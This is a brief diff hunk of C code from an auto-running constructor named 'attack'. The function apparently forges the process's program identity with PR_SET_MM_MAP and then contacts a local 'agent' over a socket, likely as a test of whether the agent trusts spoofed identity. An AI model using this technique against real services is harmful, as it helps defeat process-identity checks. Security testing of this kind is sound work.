@@ -81,7 +81,7 @@ __attribute__((constructor)) static void attack(void) {
     program[length < 0 ? 0 : length] = 0;
     if (result) dprintf(1, "impossible: PR_SET_MM_MAP: %d\n", result);
     else dprintf(1, "forged %s\n", program);
-    int s = open_socket(SOCK_CLOEXEC);
+    int s = open_socket(SOCK_CLOEXEC, 2);
     if (!dial(s, agent)) send_question(s), read_answer(s);
     _exit(0);
 }
